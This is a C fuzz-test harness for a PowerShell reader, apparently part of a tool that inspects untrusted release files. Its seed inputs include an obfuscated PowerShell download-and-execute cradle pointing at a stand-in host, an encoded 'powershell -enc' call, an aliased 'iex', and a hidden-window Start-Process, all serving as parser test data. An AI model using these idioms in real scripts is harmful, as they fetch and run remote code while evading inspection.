/*
 * A PowerShell member, OLD and NEW with a cut chosen by the first byte. The publisher of the release
 * chooses every byte.
 */
#include "reader_truths.h"
#include "tool_seeds.h"

#include "read/readers.h"

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t n)
{
	reader_truths(&reader_powershell, "tools/x.ps1", bytes, n);
	return 0;
}

static void seed(void (*run)(const void *bytes, size_t n), const char *text)
{
	run(text, strlen(text));
}

/* The first byte is a character of the text: blanks and letters cut it at an eighth to a half. */
void fuzz_seeds(void (*run)(const void *bytes, size_t n))
{
	literal_seeds("", "read/test_ps.c", run);
	call_seeds("ps", run);
	seed(run, " param([string]$Url = 'http://a.example', [switch]$q)\nfunction Get-It { param($x) begin { 1 } process { $_ } end { return $x } }\n"
		  "i`e`x (New-Object Net.WebClient).DownloadString($Url); & ('i'+'ex') $r | % { $_ -bxor 5 } > out.txt 2>&1\n");
	seed(run, "@\"\nhi $x $($y.z) `n\n\"@ + @'\nraw\n'@ -replace 'a','b' -split ',' -join '' ; \"{1}{0}\" -f 'a','b'; $x[-1..-5]; [char[]](1,2); ,1; @{ a = 1; 'b' = @(1,2) }\n");
	seed(run, "class A : B { [string]$n = 'x'; A($x) { $this.n = $x } static [void] Run() { [Convert]::FromBase64String('YQ==') } }\n"
		  "switch -regex ($x) {\n 'a' { break }\n default { continue }\n}\ntry { throw 'x' } catch [Exception] { exit 1 } finally { trap { x } }\n");
	seed(run, "for ($i = 0; $i -lt 5; $i++) { do { $b += [char]$i } while ($i-- -gt 1) }; foreach ($f in Get-ChildItem env:) { if ($f) { 1 } elseif ($g) { 2 } else { 3 } }\n"
		  "powershell -enc aQBlAHgA --flag 1 -Bar:$true @splat; Start-Process x -ArgumentList 'a', 'b' -WindowStyle Hidden; sal q iex; q 'a'; . .\\x.ps1; 1..3 | foreach { $_ }\n");
}
